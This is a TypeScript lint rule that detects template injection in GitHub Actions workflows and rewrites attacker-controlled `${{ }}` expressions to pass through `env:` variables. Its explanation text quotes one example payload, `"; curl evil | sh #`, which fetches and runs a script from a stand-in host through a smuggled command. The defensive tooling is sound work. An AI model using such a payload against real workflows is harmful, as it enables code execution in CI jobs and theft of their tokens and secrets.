import { CODE_INPUTS } from '../../knowledge/code-inputs.js';
import { stepActionKey } from '../../model/step-info.js';
import { stepsOf, type StepRef } from '../../model/workflow-model.js';
import { fileRule, type FileContext, type FileRuleResult } from '../../rule.js';
import type { SourceFile } from '../../types.js';
import { keyName, mapOf, pairOf } from '../../yaml/ast.js';
import type { TaintSources } from './expressions.js';
import { fixRun, fixScript, PWSH_DIALECT, type Dialect } from './fix-run.js';
import { taintSources } from './input-sources.js';
import { JS_DIALECT } from './js-context.js';

export const templateInjection = fileRule({
  id: 'template-injection',
  kinds: ['workflow', 'action'],
  defaultEnabled: true,
  action: 'fix',
  severity: 'high',
  confidence: 'high',
  help: 'Set the expression as a variable in the step\'s `env:` and read it in the script as a variable (`"${NAME}"`, `$env:NAME`, `process.env.NAME`).',
  title: 'Move attacker-controlled expressions out of run: scripts and script inputs',
  explanation:
    'GitHub pastes `${{ … }}` into a `run:` script (or an action input that runs code, like the `script:` of ' +
    'actions/github-script) before anything reads it, so an issue title, pull request body, branch name, commit ' +
    'message or an input the caller fills written as `"; curl evil | sh #` runs as code in your job, with its token ' +
    'and secrets. Passed through `env:` and read as a variable (`${TITLE}`, `$env:TITLE`, `process.env.TITLE`), the ' +
    'same text stays data. Only single context references are rewritten; anything else is reported.',
  async check(ctx: FileContext): Promise<FileRuleResult> {
    const out: FileRuleResult = { edits: [], notes: [] };
    const linuxLabels = ctx.options.hardenRunner.linuxLabels;
    let sources: TaintSources | undefined;
    for (const step of stepsOf(ctx.file)) {
      if (!step.map) continue;
      const run = pairOf(step.map, 'run');
      if (run) fixRun(ctx.file, step, run, linuxLabels, (sources ??= taintSources(ctx.file)), out);
      else codeInputs(ctx.file, step, (sources ??= taintSources(ctx.file)), out);
    }
    out.edits.sort((a, b) => a.line - b.line);
    out.notes.sort((a, b) => a.line - b.line);
    return out;
  },
});

/** Inputs of known actions that run their text as code (knowledge/code-inputs.ts): fixed where the code reads env. */
function codeInputs(file: SourceFile, step: StepRef, sources: TaintSources, out: FileRuleResult): void {
  const key = stepActionKey(step);
  const known = key === undefined ? undefined : CODE_INPUTS.get(key);
  const withMap = mapOf(pairOf(step.map, 'with')?.value);
  const usesKey = pairOf(step.map, 'uses')?.key;
  if (!known || !withMap || !usesKey) return;
  const wanted = new Set(known.inputs.map((i) => i.toLowerCase()));
  for (const pair of withMap.items) {
    const input = keyName(pair);
    if (input === undefined || !wanted.has(input.toLowerCase())) continue;
    const site = {
      pair: pair as never,
      path: [...step.path, 'with', input],
      where: `the ${input}: input of ${key}`,
      anchorKey: usesKey,
    };
    const dialect = (): Dialect<unknown> | string => {
      if (known.fix === 'javascript') return JS_DIALECT;
      if (known.fix === 'powershell') return PWSH_DIALECT;
      return `${key} runs ${input} as ${known.language} where the step's env: may not reach, so the fix does not rewrite it`;
    };
    fixScript(file, step, site, dialect, sources, out);
  }
}
